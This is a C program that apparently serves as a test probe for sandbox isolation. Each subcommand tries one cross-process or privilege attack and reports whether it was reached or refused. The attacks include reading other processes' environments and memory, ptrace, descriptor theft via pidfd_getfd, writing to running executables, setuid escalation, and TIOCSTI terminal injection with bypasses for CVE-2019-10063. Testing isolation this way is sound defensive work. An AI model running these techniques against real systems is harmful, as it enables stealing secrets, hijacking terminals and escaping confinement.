/* hostile ATTACK ARGUMENT…: exit code 0 and "reached: …" when it succeeds, 1 and the reason when it is refused.
     scan TEXT            finds TEXT in what /proc shows of other processes
     signal PID           sends SIGUSR1
     signal-all           SIGUSR1 to every process it may
     signal-group         SIGUSR1 to its process group
     ptrace PID           attaches
     environ PID          reads the environment
     memory PID ADDRESS   reads by /proc and by process_vm_readv
     descriptor PID       takes a descriptor by pidfd_getfd
     segment KEY ID       attaches System V shared memory
     shared NAME          opens POSIX shared memory
     queue NAME           opens a POSIX message queue
     abstract NAME        connects to an abstract socket
     descriptors TEXT     finds TEXT in what its own descriptors hold
     executables          opens for writing what processes are executed from
     root                 becomes user 0, in any of the ways there are
     type TEXT            types into the terminal on descriptor 0, as TIOCSTI and in its disguises
*/
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <mqueue.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int reached(const char *what)
{
    printf("reached: %s\n", what);
    return 0;
}

static int refused(void)
{
    printf("refused: %s\n", strerrorname_np(errno));
    return 1;
}

static char content[1 << 20];

static long slurp(const char *path)
{
    int file = open(path, O_RDONLY | O_NONBLOCK);
    long length = 0, count = -1;
    while (file >= 0 && length < (long)sizeof content && (count = read(file, content + length, sizeof content - length)) > 0)
    {
        length += count;
    }

    close(file);
    return file < 0 || (count < 0 && length == 0) ? -1 : length;
}

static int scan(const char *text)
{
    static const char *const files[] = { "cmdline", "environ", "comm", "maps" };
    char path[300];
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;)
    {
        int number = atoi(entry->d_name);
        for (int i = 0; number > 0 && number != getpid() && i < 4; i++)
        {
            snprintf(path, sizeof path, "/proc/%d/%s", number, files[i]);
            long length = slurp(path);
            if (length > 0 && memmem(content, length, text, strlen(text)) != NULL)
            {
                return reached(path);
            }
        }
    }

    errno = ESRCH;
    return refused();
}

static int memory(int process, unsigned long address)
{
    char path[64], text[64] = "";
    snprintf(path, sizeof path, "/proc/%d/mem", process);
    int file = open(path, O_RDONLY);
    if (file >= 0 && pread(file, text, 16, (long)address) == 16)
    {
        return reached(text);
    }

    struct iovec here = { text, 16 }, there = { (void *)address, 16 };
    return process_vm_readv(process, &here, 1, &there, 1, 0) == 16 ? reached(text) : refused();
}

static int attach(int process)
{
    if (ptrace(PTRACE_ATTACH, process, 0, 0) < 0)
    {
        return refused();
    }

    waitpid(process, NULL, __WALL);
    ptrace(PTRACE_DETACH, process, 0, 0);
    return reached("ptrace");
}

static int take(int process)
{
    int handle = (int)syscall(SYS_pidfd_open, process, 0);
    return handle >= 0 && syscall(SYS_pidfd_getfd, handle, 1, 0) >= 0 ? reached("a descriptor") : refused();
}

static int segment(const char *key, const char *id)
{
    int number = shmget((key_t)strtoul(key, NULL, 16), 0, 0);
    char *at = number < 0 ? (void *)-1 : shmat(number, NULL, SHM_RDONLY);
    at = at == (void *)-1 ? shmat(atoi(id), NULL, SHM_RDONLY) : at;
    return at == (void *)-1 ? refused() : reached(at);
}

static int shared(const char *name)
{
    char path[300], text[64] = "";
    snprintf(path, sizeof path, "/%s", name);
    int file = shm_open(path, O_RDONLY, 0);
    return file >= 0 && read(file, text, 63) > 0 ? reached(text) : refused();
}

static int queue(const char *name)
{
    char path[300];
    snprintf(path, sizeof path, "/%s", name);
    return mq_open(path, O_RDWR) >= 0 ? reached(name) : refused();
}

static int abstract(const char *name)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", name);
    int end = socket(AF_UNIX, SOCK_STREAM, 0);
    return connect(end, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) == 0 ? reached(name) : refused();
}

static int descriptors(const char *text)
{
    char path[64];
    for (int i = 3; i < 1024; i++)
    {
        snprintf(path, sizeof path, "/proc/self/fd/%d", i);
        long length = fcntl(i, F_GETFD) < 0 ? -1 : slurp(path);
        if (length > 0 && memmem(content, length, text, strlen(text)) != NULL)
        {
            return reached(path);
        }
    }

    errno = ENOENT;
    return refused();
}

static int executables(void)
{
    static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND, O_WRONLY | O_TRUNC };
    int found = 0;
    char path[300], target[4096];
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes != NULL && (entry = readdir(processes)) != NULL;)
    {
        if (atoi(entry->d_name) <= 0 || atoi(entry->d_name) == getpid())
        {
            continue;
        }

        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        long length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        for (int i = 0; i < 4; i++)
        {
            /* A program that runs cannot be written (ETXTBSY): hold it open by O_PATH, as the attack of 2019 did. */
            int held = open(path, O_PATH);
            char again[64];
            snprintf(again, sizeof again, "/proc/self/fd/%d", held);
            if (open(path, flags[i]) >= 0 || errno == ETXTBSY || (held >= 0 && (open(again, flags[i]) >= 0 || errno == ETXTBSY)))
            {
                printf("reached: %s (%s)\n", path, target);
                found = 1;
            }

            close(held);
        }
    }

    errno = EACCES;
    return found ? 0 : refused();
}

static int become_root(void)
{
    static const char *const names[] = { "real", "effective", "saved", "file system" };
    uid_t id[4], group[4];
    getresuid(&id[0], &id[1], &id[2]);
    getresgid(&group[0], &group[1], &group[2]);
    id[3] = setfsuid(-1);
    group[3] = setfsgid(-1);
    for (int i = 0; i < 4; i++)
    {
        if (id[i] != id[0] || group[i] != group[0])
        {
            printf("reached: %s id %u:%u\n", names[i], id[i], group[i]);
            return 0;
        }
    }

    if (setuid(0) == 0 || setresuid(-1, 0, -1) == 0 || setreuid(0, -1) == 0 || setgid(0) == 0 || setgroups(1, (gid_t[]) { 0 }) == 0)
    {
        return reached("another id");
    }

    return refused();
}

/* The kernel reads the lower half of the request alone (CVE-2019-10063), and the calls of other architectures have numbers of their own. */
static int type(const char *text)
{
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    int typed = 0, error = 0;
    for (const char *c = text; *c != 0; c++)
    {
        low[0] = *c;
        long result = ioctl(0, TIOCSTI, low);
        error = errno;
        result = result == 0 ? 0 : syscall(SYS_ioctl, 0, TIOCSTI | (1UL << 32), low);
#ifdef __x86_64__
        pid_t child = result != 0 ? fork() : -1;
        if (child == 0)     /* it dies where the kernel has no calls of 32 bits */
        {
            __asm__ volatile("int $0x80" : "=a"(result) : "a"(54L), "b"(0L), "c"((long)TIOCSTI), "d"(low) : "memory", "r8", "r9", "r10", "r11");
            _exit(result != 0);
        }

        int status = 1;
        result = child > 0 && waitpid(child, &status, 0) == child && status == 0 ? 0 : result;
        result = result == 0 ? 0 : syscall(0x40000000 | 514, 0, TIOCSTI, low);
#endif
        typed += result == 0;
    }

    errno = error;
    return typed > 0 ? reached("the terminal") : refused();
}

int main(int argc, char **argv)
{
    const char *attack = argc > 1 ? argv[1] : "";
    const char *first = argc > 2 ? argv[2] : "";
    int process = atoi(first);
#define IS(text) (strcmp(attack, text) == 0)
    signal(SIGUSR1, SIG_IGN);
    if (IS("scan")) { return scan(first); }
    if (IS("signal")) { return kill(process, SIGUSR1) == 0 ? reached("signal") : refused(); }
    if (IS("signal-all")) { return kill(-1, SIGUSR1) == 0 ? reached("some") : refused(); }
    if (IS("signal-group")) { return kill(0, SIGUSR1) == 0 ? reached("some") : refused(); }
    if (IS("ptrace")) { return attach(process); }
    if (IS("memory") && argc > 3) { return memory(process, strtoul(argv[3], NULL, 16)); }
    if (IS("descriptor")) { return take(process); }
    if (IS("segment") && argc > 3) { return segment(first, argv[3]); }
    if (IS("shared")) { return shared(first); }
    if (IS("queue")) { return queue(first); }
    if (IS("abstract")) { return abstract(first); }
    if (IS("descriptors")) { return descriptors(first); }
    if (IS("executables")) { return executables(); }
    if (IS("root")) { return become_root(); }
    if (IS("type")) { return type(first); }
    if (IS("environ"))
    {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/environ", process);
        return slurp(path) > 0 ? reached(content) : refused();
    }

    printf("unknown attack %s\n", attack);
    return 99;
}
